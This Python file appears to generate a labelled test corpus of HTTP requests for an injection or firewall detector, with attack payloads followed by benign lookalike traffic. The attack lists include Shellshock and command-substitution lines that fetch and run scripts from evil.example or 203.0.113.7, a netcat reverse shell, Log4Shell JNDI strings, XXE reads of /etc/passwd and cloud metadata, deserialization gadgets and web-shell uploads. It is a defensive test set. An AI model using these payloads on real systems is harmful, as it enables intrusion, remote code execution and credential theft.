     "/api/templates/%7B%7Bconfig.__class__.__init__.__globals__%5B%27os%27%5D.popen%28%27id%27%29.read%28%29%7D%7D"),
    ("rfi", "remote-url", "/api/include/http%3A%2F%2Fevil.example%2Fshell.txt%3F"),
]

PARAM_NAMES: list[tuple[str, str, str, str]] = [   # (category, sub, parameter name, its value)
    ("generic", "pollution", "__proto__[isAdmin]", "true"),
    ("generic", "pollution", "constructor[prototype][role]", "admin"),
    ("generic", "pollution", "__proto__.polluted", "yes"),
    ("java", "expression", "class.module.classLoader.resources.context.parent.pipeline.first.pattern", "%{c2}i"),
    ("java", "log4shell", "${jndi:ldap://evil.example/pn}", "1"),
    ("java", "expression", "#{T(java.lang.Runtime).getRuntime().exec('id')}", "1"),
    ("rce", "unix-separator", ";cat /etc/passwd", "x"),
    ("rce", "unix-substitution", "$(id)", "1"),
    ("lfi", "traversal", "../../../../etc/passwd", "1"),
]

HEADERS: list[tuple[str, str, str, str, str]] = [   # (category, sub, placement, header, value)
    ("rce", "shellshock", "user_agent", "User-Agent", "() { :; }; /bin/bash -c 'curl http://evil.example/sh | sh'"),
    ("rce", "shellshock", "user_agent", "User-Agent", "() { :;}; echo; /usr/bin/id"),
    ("rce", "shellshock", "user_agent", "User-Agent", "() { _; } >_[$($())] { cat /etc/passwd; }"),
    ("java", "log4shell", "user_agent", "User-Agent", "${jndi:ldap://evil.example:1389/ua}"),
    ("java", "log4shell", "user_agent", "User-Agent", "Mozilla/5.0 ${${lower:j}ndi:ldap://evil.example/ua2}"),
    ("rce", "unix-substitution", "user_agent", "User-Agent", "curl/7.68.0; $(wget -qO- http://203.0.113.7/x|sh)"),
    ("rce", "time-probe", "user_agent", "User-Agent", "Mozilla/5.0 `sleep 10`"),
    ("lfi", "log-poisoning", "user_agent", "User-Agent", "<?php system($_GET['c']); ?>"),
    ("generic", "ssrf", "referer", "Referer", "http://169.254.169.254/latest/meta-data/"),
    ("rce", "shellshock", "referer", "Referer", "() { :; }; ping -c 1 203.0.113.7"),
    ("java", "log4shell", "referer", "Referer", "${jndi:rmi://203.0.113.7/ref}"),
    ("rce", "unix-separator", "referer", "Referer", "https://evil.example/?q=;id"),
    ("lfi", "wrapper", "referer", "Referer", "file:///etc/passwd"),
    ("rfi", "remote-url", "referer", "Referer", "http://evil.example/shell.txt?"),
    ("rce", "unix-substitution", "referer", "Referer", "https://www.example.com/search?q=%24%28id%29"),
    ("rce", "unix-separator", "xff", "X-Forwarded-For", "127.0.0.1; id"),
    ("java", "log4shell", "xff", "X-Forwarded-For", "${jndi:ldap://evil.example/xff}"),
    ("rce", "unix-substitution", "xff", "X-Forwarded-For", "127.0.0.1 `whoami`"),
    ("rce", "time-probe", "xff", "X-Forwarded-For", "169.254.169.254, 127.0.0.1$(sleep 5)"),
    ("rce", "shellshock", "xff", "X-Forwarded-For", "() { :; }; /bin/sh -c id"),
    ("lfi", "traversal", "xff", "X-Forwarded-For", "../../../etc/passwd"),
    ("rce", "reverse-shell", "xff", "X-Forwarded-For", "10.0.0.1 | nc 203.0.113.7 4444"),
    ("lfi", "traversal", "custom_header", "X-Original-URL", "/api/../../../etc/passwd"),
    ("generic", "ssrf", "custom_header", "X-Callback-Url", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("java", "log4shell", "custom_header", "X-Forwarded-Host", "${jndi:ldap://evil.example/xfh}"),
    ("lfi", "traversal", "custom_header", "X-Filename", "..\\..\\..\\windows\\win.ini"),
    ("rce", "unix-separator", "custom_header", "X-Request-Cmd", "; cat /etc/shadow"),
    ("java", "expression", "custom_header", "X-Template", "#{7*7}${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("rce", "shellshock", "custom_header", "Accept-Language", "() { :; }; /bin/bash -c id"),
    ("generic", "ssrf", "custom_header", "X-Webhook", "gopher://127.0.0.1:6379/_SET%20x%20y"),
]

COOKIE_NAMES: list[tuple[str, str, str]] = [   # (category, sub, cookie name)
    ("lfi", "traversal", "../../../../etc/passwd"),
    ("java", "log4shell", "${jndi:ldap://evil.example/ck}"),
    ("rce", "unix-substitution", "$(id)"),
    ("generic", "pollution", "__proto__[admin]"),
    ("rce", "unix-substitution", "`whoami`"),
    ("lfi", "windows-absolute", "c:\\windows\\win.ini"),
]

FILENAMES: list[tuple[str, str, str]] = [   # (category, sub, multipart file name)
    ("lfi", "traversal", "../../../../var/www/html/shell.php"),
    ("lfi", "traversal", "..\\..\\..\\inetpub\\wwwroot\\cmd.aspx"),
    ("rce", "unix-separator", "avatar.png;id"),
    ("rce", "unix-substitution", "$(curl evil.example|sh).jpg"),
    ("lfi", "nul-length", "shell.php%00.jpg"),
    ("lfi", "nul-length", "a.jpg\x00.php"),
    ("lfi", "unix-absolute", "/etc/cron.d/backdoor"),
    ("java", "log4shell", "${jndi:ldap://evil.example/mp}.png"),
    ("rce", "time-probe", "`sleep 9`.gif"),
]

XML_BODIES: list[tuple[str, str, str]] = [   # (category, sub, XML document)
    ("generic", "xxe", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE order [\n"
     "  <!ENTITY ref SYSTEM \"file:///etc/passwd\">\n]>\n<order><id>1</id><note>&ref;</note></order>"),
    ("generic", "xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE data [<!ENTITY meta SYSTEM "
     "\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\">]>\n<data>&meta;</data>"),
    ("generic", "xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE data [\n  <!ENTITY % remote SYSTEM "
     "\"http://evil.example/oob.dtd\">\n  %remote;\n]>\n<data>x</data>"),
    ("generic", "xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE b [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;"
     "&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]>"
     "\n<b>&d;</b>"),
    ("generic", "xxe", "<?xml version=\"1.0\"?>\n<doc xmlns:xi=\"http://www.w3.org/2001/XInclude\">"
     "<xi:include parse=\"text\" href=\"file:///etc/shadow\"/></doc>"),
    ("java", "deserialization", "<?xml version=\"1.0\"?>\n<sorted-set><dynamic-proxy><interface>java.lang.Comparable"
     "</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
     "<string>/bin/sh</string><string>-c</string><string>id</string></command></target><action>start</action>"
     "</handler></dynamic-proxy></sorted-set>"),
    ("java", "deserialization", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<java version=\"1.8\" "
     "class=\"java.beans.XMLDecoder\"><object class=\"java.lang.Runtime\" method=\"getRuntime\">"
     "<void method=\"exec\"><string>whoami</string></void></object></java>"),
    ("rce", "unix-separator", "<?xml version=\"1.0\"?>\n<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/"
     "envelope/\"><soap:Body><ping><host>127.0.0.1; cat /etc/passwd</host></ping></soap:Body></soap:Envelope>"),
    ("java", "log4shell", "<?xml version=\"1.0\"?>\n<user><name>${jndi:ldap://evil.example/xml}</name></user>"),
    ("generic", "xxe", "<?xml version=\"1.0\" standalone=\"yes\"?>\n<!DOCTYPE svg [<!ENTITY h SYSTEM "
     "\"file:///etc/hostname\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">"
     "<text x=\"0\" y=\"10\">&h;</text></svg>"),
]

JSON_KEYS: list[tuple[str, str, Any]] = [   # (category, sub, JSON document with the payload as a key)
    ("generic", "pollution", {"name": "Ann", "__proto__": {"isAdmin": True}}),
    ("generic", "pollution", {"name": "Ann", "constructor": {"prototype": {"role": "admin"}}}),
    ("java", "class-name", {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://203.0.113.7:1099/o",
                            "autoCommit": True}),
    ("generic", "deserialization", {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework",
                                    "MethodName": "Start", "MethodParameters": {"$values": ["cmd", "/c calc"]}}),
]

BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def _multipart(uri: str, filename: str, content: str = "\x89PNG\r\n\x1a\n...", ctype: str = "image/png",
               extra: list[tuple[str, str]] | None = None) -> dict[str, Any]:
    """A browser's file upload: the file under `filename`, after any `extra` form fields."""
    parts = [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n" for k, v in extra or []]
    parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\n"
                 f"Content-Type: {ctype}\r\n\r\n{content}\r\n")
    return {"method": "POST", "uri": uri, "body": "".join(parts) + f"--{BOUNDARY}--\r\n",
            "headers": {"User-Agent": UA, "Accept": "application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _with_header(header: str, value: str) -> dict[str, Any]:
    base = _get("/api/users?page=1")
    return {**base, "headers": {**base["headers"], header: value}}


def _other_places() -> Iterator[dict[str, Any]]:
    n = 0

    def rec(r: dict[str, Any], cat: str, sub: str, placement: str, payload: str) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**r, "id": f"blind13-{cat}-x{n:03d}", "category": cat, "sub": sub, "placement": placement,
                "payload": payload}

    for cat, sub, uri in PATHS:
        yield rec(_get(uri), cat, sub, "path", uri)
    for cat, sub, name, value in PARAM_NAMES:
        uri = "/api/users?" + urllib.parse.quote(name, safe="[]") + "=" + urllib.parse.quote(value, safe="") + "&page=1"
        yield rec(_get(uri), cat, sub, "param_name", name)
    for cat, sub, placement, header, value in HEADERS:
        yield rec(_with_header(header, value), cat, sub, placement, value)
    for cat, sub, name in COOKIE_NAMES:
        yield rec(_with_header("Cookie", f"session=abc123; {name}=1"), cat, sub, "cookie_name", name)
    for cat, sub, filename in FILENAMES:
        yield rec(_multipart("/api/users/42/avatar", filename), cat, sub, "multipart_filename", filename)
    for cat, sub, doc in XML_BODIES:
        r = {"method": "POST", "uri": "/api/import", "body": doc,
             "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "application/xml"}}
        yield rec(r, cat, sub, "xml_body", doc)
    for cat, sub, jdoc in JSON_KEYS:
        yield rec(_json("/api/users", jdoc), cat, sub, "json_key", json.dumps(jdoc))


def attacks() -> Iterator[dict[str, Any]]:
    for family, subs in FAMILIES.items():
        n = 0
        i = 0
        for sub, payloads in subs.items():
            for p in payloads:
                for place, name in three_places(i, NAMES[family]):
                    n += 1
                    yield {**_put(place, name, p), "id": f"blind13-{family}-{n:04d}", "category": family,
                           "sub": sub, "placement": place, "payload": p}
                i += 1
    yield from _other_places()


# ---------------------------------------------------------------------------------------------------------------
# benign: real users' values with the same vocabulary
# ---------------------------------------------------------------------------------------------------------------

SLACK_TEXTS = [
    "can someone run `kubectl get pods -n payments` and tell me if the worker is crash looping?",
    "fwiw `cat /var/log/syslog | grep -i oom` shows nothing since tuesday",
    "ping me when the deploy is done, otherwise I'll sleep on it and check in the morning",
    "the cron job is `0 3 * * * /usr/local/bin/backup.sh > /dev/null 2>&1`, should we keep the redirect?",
    "try `find . -name '*.pyc' -delete` then rerun the tests",
    "getting `java.lang.NullPointerException: Cannot invoke \"String.length()\" because \"s\" is null` at "
    "com.acme.billing.InvoiceService.total(InvoiceService.java:88)",
    "stack trace:\nException in thread \"main\" java.lang.OutOfMemoryError: Java heap space\n"
    "\tat java.util.Arrays.copyOf(Arrays.java:3236)\n\tat java.util.ArrayList.grow(ArrayList.java:265)",
    "Caused by: org.postgresql.util.PSQLException: Connection to localhost:5432 refused. Check that the hostname "
    "and port are correct",
    "config lives in /etc/nginx/conf.d/default.conf on the old box, we moved it to /opt/edge/conf",
    "my ~/.bashrc has `alias ll='ls -alF'` and nothing else, so it's not that",
    "the windows build agent writes to C:\\BuildAgent\\work\\3f2a\\out and the disk is full again",
    "did you try `sudo systemctl restart docker && docker ps`?",
    "ssh into 10.20.30.41 then `tail -f /var/log/app/worker.log`",
    "we exec into the container with `docker exec -it api sh` and poke around",
    "`curl -sS https://api.github.com/repos/acme/edge/releases/latest | jq .tag_name`",
    "the system() call in the legacy C code is what worries me most",
    "set JAVA_OPTS=-Xmx2g -XX:+UseG1GC in the service file and restart",
    "for the record: `export PATH=$HOME/.local/bin:$PATH` fixes the poetry not found thing",
    "log4j was upgraded to 2.17.1 everywhere, confirmed with `mvn dependency:tree | grep log4j`",
    "python traceback:\n  File \"/app/worker/tasks.py\", line 42, in run\n    result = handler(payload)\n"
    "KeyError: 'user_id'",
    "is 192.168.1.254 the printer or the router? I keep forgetting",
    "`rm -rf node_modules && npm ci` solved it for me",
    "who owns the /srv/data/exports mount? it's at 94%",
    "PowerShell: `Get-Service | Where-Object {$_.Status -eq 'Running'}` lists them",
    "the deploy script does `git pull && make build && ./scripts/restart.sh`",
    "can we add a sleep 30 before the healthcheck? the JVM takes a while to warm up",
    "`echo $JAVA_HOME` prints /usr/lib/jvm/java-17-openjdk-amd64",
    "ugh, ../ relative paths in the Dockerfile COPY again",
    "the .env.example file is in the repo root, copy it to .env and fill in the keys",
    "Spring Boot says: Failed to bind properties under 'spring.datasource.url' to java.lang.String",
    "Windows path is C:\\Program Files\\Acme\\agent\\config.ini, you need admin rights to edit it",
    "whoami on the runner prints `gitlab-runner`, so it's not root",
    "`ps aux | grep java | wc -l` says 3 processes, should be 2",
    "use `${VAR:-default}` in the compose file so it doesn't fail when the variable is unset",
    "lunch? thinking the ramen place on 5th",
    "a 169.254.x.x address means DHCP failed, check the cable first",
    "`dig +short api.acme.io` returns 203.0.113.10 which is still the old LB",
    "heads up: the metadata endpoint is blocked from pods now (IMDSv2 only)",
    "TemplateSyntaxError: unexpected '}' in email_footer.html line 12",
    "cat pictures in #random please, not here \U0001f642",
    "the find command took forever on /, scope it to /var/lib",
    "`traceroute 8.8.8.8` stops at hop 4 from the office network",
    "bash -x ./install.sh shows it dies at the `tar xzf` step",
    "In application.yml set `server.port: 8081` and `management.endpoints.web.exposure.include: health,info`",
    "the exec summary for Q3 is in the shared drive",
    "ran `nc -zv db.internal 5432` and it connects fine",
    "\tat org.apache.catalina.core.StandardWrapperValve.invoke(StandardWrapperValve.java:197)",
    "\tat sun.reflect.NativeMethodAccessorImpl.invoke0(Native Method)",
    "I'd rather use subprocess.run([\"git\", \"status\"], check=True) than os.system",
    "`Runtime.getRuntime().availableProcessors()` returns 2 in the container, bump the cpu limit",
    "the Makefile target is `make test ARGS=\"-k slow\"`",
    "`chmod 600 ~/.ssh/id_ed25519` or ssh refuses to use it",
    "I pasted the wrong IP, it's 10.0.12.7 not 10.0.12.70",
    "we're on bash 5.1, the `${var,,}` lowercase trick works",
    "`sed -i 's/foo/bar/g' config/settings.toml` is easier",
    "anyone seen `EACCES: permission denied, open '/usr/lib/node_modules/.staging'`?",
    "robots.txt and sitemap.xml are served from /public",
    "`pg_dump -Fc app > /backups/app-$(date +%F).dump` runs nightly",
    "ping timeouts from the Frankfurt region since 14:02 UTC",
    "the ldap filter for the group sync is `(memberOf=cn=devs,ou=groups,dc=acme,dc=io)`",
    "xpath in the test is //div[@class='price']/span, which broke after the redesign",
    "`Invoke-WebRequest https://aka.ms/installazurecliwindows -OutFile .\\AzureCLI.msi` works on the jump box",
    "eval is evil, but the rules DSL needs it, so we sandbox it",
    "`wget https://downloads.example.org/tool-1.4.2.tar.gz` then `tar -xzf` and `./configure`",
    "prototype pollution advisory for lodash < 4.17.21, please bump",
    "the XML import chokes on `&amp;` in company names",
    "Ruby: `bundle exec rails c` then `User.find_by(email: 'x@acme.io')`",
    "the PR changes `yaml.load` to `yaml.safe_load`, approve pls",
    "/proc/meminfo says 60% used, fine for now",
    "`kill -9 $(pgrep -f celery)` was too aggressive, use systemctl stop",
    "the SMB share is \\\\fileserver01\\finance\\reports, ask IT for access",
    "set `JAVA_TOOL_OPTIONS=-Dlog4j2.formatMsgNoLookups=true` as defense in depth",
    "`netstat -tulpn | grep 8080` shows nothing listening",
    "if you get `Permission denied (publickey)` add your key to the bastion",
    "our S3 path is s3://acme-logs/edge/2024/06/ with lifecycle after 30 days",
    "docs say to run `python -m venv .venv && source .venv/bin/activate`",
    "use `Path(__file__).resolve().parent / 'templates'` instead of os.path.join with '..'",
    "I love the new cat logo on the status page",
    "the exec team offsite is on the 14th",
    "`curl -X POST -H 'Content-Type: application/json' -d '{\"name\":\"test\"}' http://localhost:8080/api/items`",
    "`Get-ChildItem -Recurse -Filter *.log C:\\inetpub\\logs | Remove-Item`, careful with that one",
    "the jndi datasource name is java:comp/env/jdbc/AppDS in the old tomcat config",
    "ERROR [http-nio-8080-exec-3] o.a.c.c.C.[.[.[/].[dispatcherServlet] : Servlet.service() threw exception",
    "our SSRF guard rejects 127.0.0.1 and 10/8, what about IPv6 link-local?",
    "`npm run build -- --mode production`",
    "tip: `history | grep ssh` finds the host you forgot",
    "the git hook is .git/hooks/pre-commit, make it executable",
    "`sudo apt-get update && sudo apt-get install -y nginx`",
    "`sleep 0.5` between the API calls keeps us under the rate limit",
    "the stacktrace mentions `com.fasterxml.jackson.databind.exc.MismatchedInputException`",
    "backup job failed: tar: /var/www/uploads: file changed as we read it",
    "Node says `Error: Cannot find module '/app/dist/server.js'`, did the build step run?",
    "PSA: C:\\Users\\<you>\\AppData\\Local\\Temp gets huge, clean it sometimes",
    "the 502s were the upstream at 10.0.3.15:8080 timing out, not nginx",
]

PUBLIC_URLS = [
    "https://www.google.com/search?q=bash+find+exec+example",
    "https://stackoverflow.com/questions/4181703/how-to-concatenate-string-variables-in-bash",
    "https://github.com/acme/edge/blob/main/scripts/deploy.sh#L42",
    "https://docs.python.org/3/library/subprocess.html#subprocess.run",
    "https://man7.org/linux/man-pages/man8/ping.8.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cmd",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://example.com/download?file=report-2024-06.pdf",
    "https://shop.example.org/product?id=1234&ref=newsletter&utm_source=email&utm_medium=cpc",
    "https://maps.google.com/?q=52.5200,13.4050",
    "https://logging.apache.org/log4j/2.x/security.html",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-44228",
    "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/configuring-instance-metadata-service.html",
    "https://kubernetes.io/docs/reference/kubectl/cheatsheet/",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions",
    "https://nginx.org/en/docs/http/ngx_http_proxy_module.html#proxy_pass",
    "https://jira.acme.io/browse/OPS-1234?focusedCommentId=5678&page=com.atlassian.jira.plugin.system."
    "issuetabpanels:comment-tabpanel",
    "https://grafana.acme.io/d/abc123/edge?orgId=1&from=now-6h&to=now&var-host=edge-01",
    "https://kibana.acme.io/app/discover#/?_g=(time:(from:now-15m,to:now))&_a=(query:(language:kuery,"
    "query:'status:500'))",
    "https://calendar.google.com/calendar/r/eventedit?text=Standup&dates=20240610T090000/20240610T091500",
    "https://www.amazon.com/s?k=usb+c+cable&ref=nb_sb_noss",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://pypi.org/project/requests/2.32.3/",
    "https://www.npmjs.com/package/lodash?activeTab=versions",
    "https://hub.docker.com/_/nginx?tab=tags&name=1.27",
    "https://portal.azure.com/#view/HubsExtension/BrowseResource/resourceType/Microsoft.Compute%2FVirtualMachines",
    "https://console.aws.amazon.com/ec2/home?region=eu-central-1#Instances:instanceState=running",
    "https://status.example.com/incidents/8xk2l9",
    "https://zoom.us/j/91234567890?pwd=Q2x1ZUJ6a3V2",
    "https://docs.google.com/spreadsheets/d/1aBcD3fGh/edit#gid=0",
    "https://www.reddit.com/r/sysadmin/comments/abc123/cron_job_not_running/",
    "https://serverfault.com/questions/12345/nginx-location-regex?noredirect=1&lq=1",
    "https://api.slack.com/methods/chat.postMessage",
    "https://ruby-doc.org/3.3/Kernel.html#method-i-system",
    "https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback",
    "https://spring.io/guides/gs/rest-service/",
    "https://example.org/wiki/index.php?title=Setup&action=edit&section=2",
    "https://weather.example.com/forecast?lat=48.1&lon=11.6&units=metric",
    "https://tracking.example-post.com/track?id=JJD0001234567890&lang=en",
    "https://www.example.com/cgi-bin/guestbook.pl?page=2",
    "https://files.example.net/share/s/Xy9pQ2?path=%2FProjects%2F2024%2FQ3&preview=budget.xlsx",
    "https://intranet.acme.io/search?q=vpn+setup+windows&scope=all",
    "https://www.bing.com/search?q=powershell+get-childitem+recurse",
    "https://duckduckgo.com/?q=sleep+command+windows&ia=web",
    "https://translate.google.com/?sl=de&tl=en&text=Verzeichnis&op=translate",
    "https://www.rfc-editor.org/rfc/rfc3986.txt",
    "https://httpbin.org/get?foo=bar&baz=1",
    "https://ci.acme.io/job/edge/job/main/1234/console",
]

PROSE = [
    "cat food subscription",
    "the cat in the hat",
    "ping pong table booking",
    "find my order",
    "sleep study results",
    "exec assistant",
    "system administrator",
    "John O'Connor",
    "C:\\Users\\jdoe\\Documents",
    "/home/jdoe/reports",
    "192.168.0.12",
    "10.1.2.3 printer",
    "error 500 on /checkout",
    "how do I reset my password?",
    "order #12345 & invoice",
    "Tom & Jerry",
    "R&D team",
    "AT&T",
    "bash script help",
    "python -m pip install",
    "wget failed",
    "curl timeout",
    "whoami",
    "netstat",
    "find & replace",
    "system requirements",
    "exec summary 2024",
    "dir listing",
    "type 2 diabetes",
    "echo dot",
    "less than 3 days",
    "head of sales",
    "tail light",
    "kill switch",
    "net income",
    "shell oil",
    "java developer",
    "ruby on rails",
    "node js",
    "expect delays",
    "file: invoice.pdf",
    "admin@example.com",
    "O'Reilly",
    "2 > 1",
    "key=value",
    "C:\\Temp\\install.log",
    "/var/log",
    "../docs",
    "~/Downloads",
    "$100 gift card",
    "50% off",
    "(555) 123-4567",
    "#general channel",
    "C++ developer",
    "C# .NET",
    "x86_64",
    "Ctrl+Alt+Del",
    "sleep mode not working",
    "ping 8.8.8.8 fails",
    "process id 4242",
    "runtime error",
    "template for onboarding email",
    "config.yaml",
    "index.html",
    "id card renewal",
]

FILENAMES_BENIGN = [
    "Q3 report (final).docx",
    "r\u00e9sum\u00e9_2024.pdf",
    "IMG_20240612_101522.jpg",
    "Screenshot 2024-06-12 at 10.15.22.png",
    "backup-2024-06-01.tar.gz",
    "notes.txt",
    "invoice #4512.pdf",
    "my cat.jpg",
    "etc-hosts-example.txt",
    "config.yaml",
    ".env.example",
    "web.config.sample",
    "ping-results.log",
    "run.sh",
    "deploy.ps1",
    "install.bat",
    "Dockerfile",
    "package.json",
    "id_ed25519.pub",
    "contract v2 - signed.pdf",
    "Budget 2024 & forecast.xlsx",
    "~$report.docx",
    "photo (1).jpeg",
    "data_export_2024-06-12T10_15_22Z.csv",
    "C:\\Users\\anna\\Desktop\\report.pdf",
    "passwd-reset-instructions.pdf",
    "system-diagram.drawio",
    "exec-summary.pptx",
    "sleep_log_june.csv",
    "Java_Stacktrace_2024-06-12.txt",
]

TICKETS = [
    "Outlook crashes when opening C:\\Users\\mkhan\\AppData\\Local\\Microsoft\\Outlook\\mkhan.ost",
    "Cannot map \\\\fs01\\shared\\HR as a drive since the update",
    "Installer log at C:\\Windows\\Temp\\setup_2024.log says error 1603",
    "Please restore D:\\Projects\\Acme\\specs v3.docx from yesterday's backup",
    "After the update, %APPDATA%\\Slack\\logs is 4 GB",
    "Event Viewer shows an error from C:\\Windows\\System32\\svchost.exe -k netsvcs",
    "The VPN client changed my hosts file at C:\\Windows\\System32\\drivers\\etc\\hosts, is that expected?",
    "ping to 10.4.0.1 from my laptop times out, but 8.8.8.8 works",
    "My IP is 192.168.178.23 and the printer is at 192.168.178.40, it worked until Friday",
    "A cmd.exe window flashes at login, then closes",
    "PowerShell says running scripts is disabled on this system",
    "Excel can't open \\\\nas02\\finance\\2024\\Q2 Budget.xlsx, it says the file is locked",
    "Teams cache in C:\\Users\\lpetrov\\AppData\\Roaming\\Microsoft\\Teams needs clearing?",
    "Please install Python 3.12 on my machine, the installer wants to write to C:\\Program Files",
    "The shared printer at 172.16.4.20 prints blank pages",
    "Java update popup every morning, Java 8 Update 401 is installed under C:\\Program Files (x86)\\Java",
    "laptop goes to sleep during presentations even with the power plan set to high performance",
    "I can't find the file I saved to Desktop\\New folder (2) yesterday",
    "The system tray icon for the backup agent is gone",
    "Access denied on H:\\home\\ablack\\documents after the migration",
    "The scanner saves to \\\\scan01\\inbox\\%USERNAME% but my folder is empty",
    "Chrome says ERR_CONNECTION_REFUSED for http://10.0.0.15:8080/dashboard",
    "Need the event log from C:\\Windows\\System32\\winevt\\Logs\\Application.evtx for the vendor",
    "OneDrive keeps syncing C:\\Users\\tnguyen\\OneDrive - Acme\\Archive, can I exclude it?",
    "The ERP client needs port 1433 open to 10.12.0.8",
    "Remote desktop to 10.30.1.55 says the credentials did not work",
    "Bluetooth headset disconnects every few minutes on Windows 11",
    "cannot delete C:\\temp\\old_installers, it says a file is in use",
    "Our kiosk PC at 192.168.10.77 shows a black screen after boot",
    "Wi-Fi 'Acme-Guest' gives me a 169.254.12.4 address",
]

SETTINGS: list[dict[str, Any]] = [
    {"theme": "dark", "shell": "/bin/zsh", "editor": "vim", "timezone": "Europe/Berlin"},
    {"webhook_url": "https://hooks.slack.com/services/T0000/B0000/XXXXXXXXXXXXXXXXXXXXXXXX", "events": ["deploy"]},
    {"log_path": "/var/log/acme/app.log", "level": "debug", "rotate": "daily"},
    {"download_dir": "C:\\Users\\anna\\Downloads", "open_after_download": False},
    {"schedule": "*/5 * * * *", "job": "sync-contacts"},
    {"build_command": "npm ci && npm run build", "output_dir": "dist", "node_version": "20"},
    {"ping_interval": 30, "sleep_ms": 500, "retries": 3},
    {"proxy": "http://10.0.0.5:3128", "no_proxy": "localhost,127.0.0.1,.internal"},
    {"java_opts": "-Xms512m -Xmx2g", "gc": "G1"},
    {"template": "Hello {{name}}, your order {{order_id}} has shipped", "locale": "en"},
    {"username_regex": "^[a-z0-9_-]{3,16}$"},
    {"ldap_base_dn": "ou=people,dc=acme,dc=io", "ldap_host": "ldap.acme.io", "port": 636},
    {"notifications": {"email": True, "slack": False}, "digest": "weekly"},
    {"working_dir": "/srv/app", "env": {"NODE_ENV": "production", "PORT": "3000"}},
    {"upload_max_mb": 25, "allowed_types": [".pdf", ".png", ".jpg", ".docx"]},
    {"date_format": "%Y-%m-%d %H:%M", "first_day_of_week": "monday"},
    {"signature": "Cheers,\nAnn\n--\nAcme Support | +49 30 1234567"},
    {"editor": {"tab_size": 4, "font": "JetBrains Mono", "word_wrap": True}},
    {"ssh_public_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx8b2kF3n1vYq8qz5Zk1s4m2n7p9r0t1u2v3w4x5y6z ann@laptop"},
    {"backup_path": "\\\\nas01\\backups\\laptops", "keep_days": 30},
    {"status_message": "In meetings all day, ping me on Slack", "emoji": ":calendar:"},
    {"health_check": {"path": "/healthz", "interval_s": 10, "timeout_s": 2}},
    {"dns_servers": ["1.1.1.1", "8.8.8.8"], "search_domain": "corp.acme.io"},
    {"python_path": "/usr/local/bin/python3", "venv": ".venv"},
    {"git": {"default_branch": "main", "pull_rebase": True}},
    {"allowed_ips": ["203.0.113.0/24", "198.51.100.17"]},
    {"export": {"format": "csv", "delimiter": ";", "filename": "contacts_{date}.csv"}},
    {"callback_url": "https://app.example.com/oauth/callback?provider=slack"},
    {"mail_from": "Acme Support <support@acme.io>", "reply_to": "noreply@acme.io"},
    {"language": "de-DE", "currency": "EUR", "number_format": "1.234,56"},
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, "blind13ben")
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, "blind13ben", n)
    for k, name in enumerate(FILENAMES_BENIGN):
        n += 1
        if k % 2 == 0:
            rec = _multipart("/api/users/42/avatar", name, "hello, this is a small file\n", "application/octet-stream")
            yield {**rec, "id": f"blind13ben-file-{n:04d}", "category": "benign", "placement": "multipart_filename"}
        else:
            yield {**_json("/api/files", {"filename": name, "folder": "My Documents", "size": 48213}),
                   "id": f"blind13ben-file-{n:04d}", "category": "benign", "placement": "json"}
    for k, text in enumerate(TICKETS):
        n += 1
        subject = text.split(",")[0][:60]
        if k % 2 == 0:
            rec = _json("/api/tickets", {"subject": subject, "description": text, "priority": "normal"})
            place = "json"
        else:
            rec = _form("/admin/tickets/new", [("csrf_token", "t0k3n"), ("subject", subject), ("body", text)])
            place = "form"
        yield {**rec, "id": f"blind13ben-ticket-{n:04d}", "category": "benign", "placement": place}
    n = yield from numbered((_json("/api/users/42/settings", doc) for doc in SETTINGS),
                            "blind13ben-settings", n, "json")
    for q in ("cat", "ping", "sleep", "exec", "system", "find"):
        n += 1
        yield {**_get(_query("/api/users", [("q", q), ("page", "1")])), "id": f"blind13ben-query-{n:04d}",
               "category": "benign", "placement": "query"}


if __name__ == "__main__":
    print_records(attacks(), benign())
